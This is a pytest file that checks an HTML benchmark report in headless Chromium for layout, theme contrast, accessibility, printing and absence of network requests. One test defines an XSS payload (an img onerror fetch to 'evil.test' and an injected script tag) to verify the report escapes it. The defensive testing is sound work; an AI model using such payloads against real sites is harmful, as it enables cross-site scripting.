"""The page in a real headless Chromium: complete, quiet, within the screen, in both themes, and harmless."""

import itertools
import re
import struct

import pytest

from fastkernels.evaluation.report.render import render, write_report
from tests.evaluation.report.browser import EXECUTABLE, Browser
from tests.evaluation.runs import MODELS, make_run

pytest.importorskip("jinja2", reason="the page needs jinja2: pip install 'fastkernels[report]'")
pytest.importorskip("plotly", reason="the page needs plotly: pip install 'fastkernels[report]'")
in_browser = pytest.mark.skipif(EXECUTABLE is None, reason="no chromium, chromium-browser or google-chrome on PATH")

EVIL = "<img src=x onerror=fetch('http://evil.test')></script><script>window.evil=1</script>"
LONG = "organisation/a_model_with_a_very_long_name_" + "x" * 60
VIEWS = {
    "mixed": lambda: [make_run(speedup=1.24, failed=["vit-base"], crashed=["bge-m3"])],
    "all failed": lambda: [make_run(failed=["llama-8b", "qwen3-moe"], crashed=["bge-m3", "vit-base"])],
    "side by side": lambda: [
        make_run(models={"bge-m3": "embedding"}),
        make_run(models={"bge-m3": "embedding"}, candidates="mine", digests={"rms_norm": "1" * 64}, seed=1),
    ],
    "long names": lambda: [make_run(models={LONG: "embedding"}, candidates="/".join(["folder"] * 30))],
}


@pytest.fixture(scope="module")
def pages(tmp_path_factory):
    folder = tmp_path_factory.mktemp("pages")
    files = {name: folder / f"{name.replace(' ', '_')}.html" for name in VIEWS}
    for name, file in files.items():
        write_report(VIEWS[name](), file)
    return files


@pytest.fixture(scope="module")
def browser(tmp_path_factory):
    with Browser(tmp_path_factory.mktemp("profile")) as running:
        yield running


@in_browser
@pytest.mark.parametrize("dark", [False, True], ids=["light", "dark"])
@pytest.mark.parametrize("width", [390, 1440])
def test_page_is_drawn_within_the_screen_without_errors_and_without_the_network(pages, browser, tmp_path, width, dark):
    browser.open(pages["mixed"], width=width, dark=dark)
    assert browser.complaints() == []
    assert [r for r in browser.requests() if r != pages["mixed"].as_uri() and not r.startswith("data:")] == []
    assert browser.evaluate("document.scrollingElement.scrollWidth <= innerWidth")
    plots = browser.evaluate(
        "[...document.querySelectorAll('.plot')].map(p => p.querySelectorAll('.plot-container').length)"
    )
    assert len(plots) > 10
    assert set(plots) == {1}
    shot = tmp_path / "page.png"
    browser.screenshot(shot)
    assert struct.unpack(">II", shot.read_bytes()[16:24])[0] == width  # the PNG's own width
    assert shot.stat().st_size > 100_000


@in_browser
@pytest.mark.parametrize("name", ["all failed", "side by side", "long names"])
def test_other_views_fit_a_phone(pages, browser, name):
    browser.open(pages[name], width=390)
    assert browser.complaints() == []
    assert browser.evaluate("document.scrollingElement.scrollWidth <= innerWidth")
    browser.evaluate("document.querySelectorAll('details').forEach(d => d.open = true)")
    assert browser.evaluate("document.scrollingElement.scrollWidth <= innerWidth")


@in_browser
def test_text_tables_and_verdict_need_no_script(pages, browser):
    browser.open(pages["mixed"], width=1440, script=False)
    # The page's own scripts are off; the inspector's are not.
    shown = browser.evaluate("[...document.querySelectorAll('table')].filter(t => t.offsetHeight > 0).length")
    assert shown > 20
    assert "on 2 of 4 models" in browser.evaluate("document.querySelector('.verdict').innerText")
    assert browser.evaluate("[...document.querySelectorAll('.chart')].every(c => c.offsetHeight === 0)")


@in_browser
def test_charts_follow_the_theme_and_text_stays_readable(pages, browser):
    browser.open(pages["mixed"], width=1440, dark=False)
    ink = "getComputedStyle(document.querySelector('.plot .xtick text')).fill"
    ground = "getComputedStyle(document.body).backgroundColor"
    light = browser.evaluate(ink)
    assert contrast(light, browser.evaluate(ground)) > 7
    browser.theme(dark=True)
    browser.wait_for(f"{ink} !== '{light}'")
    assert contrast(browser.evaluate(ink), browser.evaluate(ground)) > 7
    for tone in ("good", "bad", "warn", "muted"):
        colour = browser.evaluate(f"getComputedStyle(document.querySelector('.{tone}:not(.verdict)')).color")
        assert contrast(colour, browser.evaluate(ground)) > 4.5, tone


def contrast(one, other):
    """WCAG's contrast ratio of two CSS rgb() colours."""

    def luminance(colour):
        parts = [int(v) / 255 for v in re.findall(r"\d+", colour)[:3]]
        linear = [p / 12.92 if p <= 0.04045 else ((p + 0.055) / 1.055) ** 2.4 for p in parts]
        return 0.2126 * linear[0] + 0.7152 * linear[1] + 0.0722 * linear[2]

    high, low = sorted((luminance(one), luminance(other)), reverse=True)
    return (high + 0.05) / (low + 0.05)


@in_browser
def test_charts_in_folded_models_are_drawn_when_opened(pages, browser):
    browser.open(pages["side by side"], width=1440)
    folded = "document.querySelector('details.fold')"
    assert browser.evaluate(f"{folded}.querySelectorAll('.plot-container').length") == 0
    browser.evaluate(f"{folded}.open = true")
    browser.wait_for(
        f"{folded}.querySelectorAll('.plot-container').length === {folded}.querySelectorAll('.plot').length"
    )
    assert browser.evaluate(f"{folded}.querySelectorAll('.plot-container').length") > 2
    assert browser.complaints() == []


@in_browser
def test_headings_are_in_order_and_every_table_has_caption_and_row_headings(pages, browser):
    browser.open(pages["side by side"], width=1440)
    levels = browser.evaluate("[...document.querySelectorAll('h1,h2,h3,h4,h5,h6')].map(h => +h.tagName[1])")
    assert levels[0] == 1
    assert levels.count(1) == 1
    assert all(after <= before + 1 for before, after in itertools.pairwise(levels))
    assert browser.evaluate(
        "[...document.querySelectorAll('table')].every(t => t.caption && t.caption.textContent.length > 10"
        " && [...t.tBodies[0].rows].every(r => r.cells[0].scope === 'row'))"
    )


@in_browser
def test_names_and_logs_are_text_and_nothing_else(browser, tmp_path):
    run = make_run(models={EVIL: "embedding", "b": "embedding"}, candidates=EVIL, crashed=["b"], scenario=EVIL)
    run.models[0].trials[0].reason = EVIL
    run.models[1].arms["candidate"].log_tail = EVIL
    run.models[0].correctness[0].metrics[0].name = EVIL
    file = tmp_path / "evil.html"
    write_report([run], file)
    browser.open(file, width=390)
    assert browser.evaluate("window.evil") is None
    assert browser.evaluate("document.images.length") == 0
    assert browser.complaints() == []
    assert EVIL in browser.evaluate("document.querySelector('pre code').innerText")
    assert browser.evaluate("document.scrollingElement.scrollWidth <= innerWidth")


@in_browser
def test_page_prints_with_what_is_folded(pages, browser, tmp_path):
    browser.open(pages["side by side"], width=1440, dark=True)
    printed = browser.pdf()
    (tmp_path / "page.pdf").write_bytes(printed)
    browser.evaluate("document.querySelectorAll('details').forEach(d => d.open = true)")
    assert len(printed) > 0.9 * len(browser.pdf())


def test_plotly_is_inside_once_and_after_the_text():
    text = render([make_run(), make_run(seed=1)], ".html")
    assert text.count("* plotly.js v") == 1
    assert text.find("* plotly.js v") > text.rfind("</table>")


def test_page_fetches_nothing_by_its_markup():
    text = render([make_run()], ".html")
    head = text[: text.find("* plotly.js v")]
    assert re.findall(r"""(?:src|href)=["']?(?!#|data:)[^"' >]+""", head) == []
    assert "url(" not in head
    assert "default-src 'none'" in head


def test_every_model_is_reached_from_the_top():
    text = render([make_run()], ".html")
    for name in MODELS:
        assert re.search(rf'<a href="#(s\d+)">{name}</a>', text), name
    assert all(f'id="{i}"' in text for i in re.findall(r'href="#(s\d+)"', text))
